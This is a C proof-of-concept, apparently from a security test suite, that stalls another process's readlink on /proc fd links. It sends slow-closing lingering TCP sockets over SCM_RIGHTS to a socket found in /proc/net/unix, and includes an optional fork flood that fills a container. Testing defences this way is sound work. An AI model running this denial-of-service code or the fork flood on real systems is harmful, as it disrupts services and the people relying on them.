// A question of one process about another waits for whoever sends the asker a descriptor whose last close takes long: a TCP
// socket with SO_LINGER and bytes that nobody reads. Every process of the network namespace can connect to the asker's socket,
// whose name /proc/net/unix shows. Natively no process can make another one's readlink(2) wait.
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>

#define LINGER 7   // seconds
#define TOO_LONG 6 // seconds: an asker waits for one second if the process that is asked does not run
#define MANY 2     // the last close is the sender's where the asker is faster

static struct sockaddr_in here;
static int listener;

static void listen_here(void) {
    socklen_t n = sizeof here;
    int small = 4096;
    here = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    listener = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    if (bind(listener, (struct sockaddr *)&here, sizeof here) < 0 || listen(listener, 100) < 0 ||
        getsockname(listener, (struct sockaddr *)&here, &n) < 0)
        attack_broken("a TCP socket on the loopback");
}

// A connection with bytes that its peer, in the queue of the listener, never takes.
static int slow_to_close(void) {
    static char junk[1 << 16];
    struct linger linger = {1, LINGER};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&here, sizeof here) < 0)
        return fd;
    while (send(fd, junk, sizeof junk, MSG_DONTWAIT) > 0)
        ;
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    return fd;
}

// Sends fd to who listens at this abstract name, and keeps no copy of it. Whether it was sent.
static int send_to(const char *name, int fd) {
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    union {
        struct cmsghdr head;
        char room[CMSG_SPACE(sizeof fd)];
    } control = {.head = {CMSG_LEN(sizeof fd), SOL_SOCKET, SCM_RIGHTS}};
    struct iovec byte = {"x", 1};
    struct msghdr m = {
        .msg_iov = &byte, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    int to = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK, 0);
    memcpy(at.sun_path + 1, name, 5);
    memcpy(CMSG_DATA(&control.head), &fd, sizeof fd);
    int sent = connect(to, (struct sockaddr *)&at, sizeof at.sun_family + 6) == 0 &&
               sendmsg(to, &m, MSG_NOSIGNAL) > 0;
    close(to);
    return sent;
}

// The name of a listener of packets whose name is the kernel's choice. Whether there is one.
static int find_listener(char name[8]) {
    FILE *f = fopen("/proc/net/unix", "re");
    char line[512];
    int found = 0;
    while (f && !found && fgets(line, sizeof line, f)) // Num RefCount Protocol Flags Type St Inode Path
        found = sscanf(line, "%*s %*s %*s 00010000 0005 %*s %*s @%5s", name) == 1 && strlen(name) == 5;
    if (f)
        fclose(f);
    return found;
}

static void send_to_all(void) {
    while (!attack_over()) {
        int fd[MANY], sent = 0;
        char name[8];
        for (int i = 0; i < MANY; i++)
            fd[i] = slow_to_close();
        while (!sent && !attack_over())
            for (int i = 0; i < MANY && find_listener(name); i++) {
                sent += send_to(name, fd[i]);
                if (sent)
                    close(fd[i]);
            }
        usleep(800000);
    }
}

// Is asked, and answers late: the parent of a vfork.
static void answers_late(void) {
    if (vfork() == 0) {
        sleep(100);
        _exit(0);
    }
}

// Leaves no room for another thread in the container.
static void crowd(void) {
    for (int failed = 0; failed < 20; failed++)
        for (pid_t pid; (pid = fork()) >= 0; failed = 0)
            if (pid == 0) {
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                for (;;)
                    pause();
            }
}

int main(int argc, char **argv) {
    (void)argv;
    char path[64], text[256];
    pid_t asked, sender;
    listen_here();
    if ((asked = fork()) == 0) {
        answers_late();
        _exit(0);
    }
    if ((sender = fork()) == 0) {
        if (getuid() == 0 && setresuid(1000, 1000, 1000) < 0)
            attack_broken("setresuid");
        if (argc > 1)
            crowd();
        send_to_all();
        _exit(0);
    }
    snprintf(path, sizeof path, "/proc/%d/fd/0", (int)asked);
    usleep(argc > 1 ? 1000000 : 100000);
    while (!attack_over()) {
        double begun = attack_now();
        if (readlink(path, text, sizeof text) < 0 && errno != EACCES && errno != ENOENT)
            attack_broken("readlink");
        if (attack_now() - begun > TOO_LONG)
            attack_won("a question took %.0f s", attack_now() - begun);
    }
    kill(asked, SIGKILL);
    kill(sender, SIGKILL);
    attack_lost();
}
